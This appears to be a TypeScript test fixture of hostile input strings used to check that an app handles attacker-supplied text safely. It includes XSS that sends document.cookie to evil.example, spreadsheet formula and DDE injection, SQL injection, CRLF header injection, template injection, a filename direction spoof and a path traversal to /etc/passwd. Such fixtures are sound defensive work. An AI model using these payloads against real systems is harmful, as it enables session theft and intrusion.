/** Text that real tenants send and that a careless reader renders, runs or breaks on. */
export const attackStrings = {
  script: '<script>alert("dlp")</script>',
  image: '"><img src=x onerror=fetch("//evil.example/"+document.cookie)>',
  svg: '<svg/onload=alert(1)>',
  formula: '=HYPERLINK("http://evil.example/?leak="&A1,"Open invoice")',
  formulaPlus: "+cmd|' /C calc'!A0",
  formulaAt: '@SUM(1+9)*cmd|"/c powershell"!A1',
  rightToLeft: 'Payroll_\u202Excod.exe',
  bidiIsolate: 'Invoice \u2067\u05D7\u05E9\u05D1\u05D5\u05E0\u05D9\u05EA\u2069 \u200F2024\u200E.pdf',
  long: `Long title ${'lorem ipsum dolor sit amet '.repeat(400)}`.slice(0, 10_000),
  nullish: 'null',
  undefinedish: 'undefined',
  nul: 'before\u0000after',
  loneSurrogate: 'half of a pair \uD83D here',
  emoji: '👩‍👩‍👧‍👦 Überweisung für Zoë 🏦💸',
  sql: "Robert'); DROP TABLE findings;--",
  markdownLink: '[Remediation guide](javascript:alert(document.domain))',
  markdownRaw:
    '# Fix\n\n<iframe src="https://evil.example/"></iframe>\n\n<details open ontoggle=alert(1)>now</details>',
  markdownData:
    '![logo](data:image/svg+xml;base64,PHN2Zy8+) [x](data:text/html,<script>alert(1)</script>) [y](http://evil.example)',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the placeholder is the attack
  template: '{{constructor.constructor("alert(1)")()}} ${7*7} <%= 7*7 %>',
  newline: 'first line\r\nSet-Cookie: planted=1\r\n\r\nsecond line',
  ansi: '\u001B[31mred\u001B[0m\u0007',
  path: '../../../../etc/passwd',
} as const;

export type AttackName = keyof typeof attackStrings;
export const attackList: readonly string[] = Object.values(attackStrings);
